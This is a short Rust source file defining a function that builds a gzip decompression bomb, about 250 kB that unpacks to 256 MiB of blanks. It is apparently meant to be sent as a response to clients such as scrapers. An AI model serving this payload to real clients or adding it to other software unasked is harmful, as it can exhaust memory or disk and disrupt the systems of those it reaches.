//! An answer that is small on its way, and large when it is unpacked.

use std::io::{Result, Write as _};

use flate2::Compression;
use flate2::write::GzEncoder;

/// Returns 256 MiB of blanks in 250 kB of gzip.
///
/// # Errors
///
/// Those of the encoder.
pub fn bomb() -> Result<Vec<u8>> {
    let mut bomb = GzEncoder::new(Vec::new(), Compression::best());
    let block = vec![b' '; 1024 * 1024];
    for _ in 0..256 {
        bomb.write_all(&block)?;
    }
    bomb.finish()
}
